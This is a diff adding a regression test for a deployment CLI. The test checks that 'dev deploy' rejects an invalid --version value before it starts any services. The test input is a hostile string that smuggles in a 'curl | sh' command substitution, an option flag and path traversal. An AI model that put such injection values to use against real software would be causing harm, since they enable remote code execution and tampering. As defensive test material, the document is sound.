@@ -21,6 +21,18 @@ def listening(port: int) -> bool:
         return probe.connect_ex(("127.0.0.1", port)) == 0
 
 
+def test_dev_deploy_refuses_a_bad_version_before_touching_the_stack(tmp_path):
+    # Free ports: before the fix, this deploy went ahead and tried to start instances.
+    env = {**os.environ, "ROLLBACK_DEV_DIR": str(tmp_path / "dev"),
+           **{f"ROLLBACK_DEV_{name}_PORT": str(free_port()) for name in ("NGINX", "BLUE", "GREEN", "TEMPORAL", "UI", "API")}}
+    done = subprocess.run([ROLLBACK, "dev", "deploy", "--target", "backend", "--version", "--help; $(curl x|sh) ../../etc"],
+                          env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
+    assert done.returncode == 1 and "Traceback" not in done.stderr
+    lines = done.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: --version: ") and "not a valid version" in lines[0], done.stderr
+    assert not (tmp_path / "dev").exists()
+
+
 def test_dev_up_deploy_rollback_down(tmp_path):
     ports = {name: free_port() for name in ("NGINX", "BLUE", "GREEN", "TEMPORAL", "UI", "API")}
     env = {**os.environ, "ROLLBACK_DEV_DIR": str(tmp_path / "dev"),
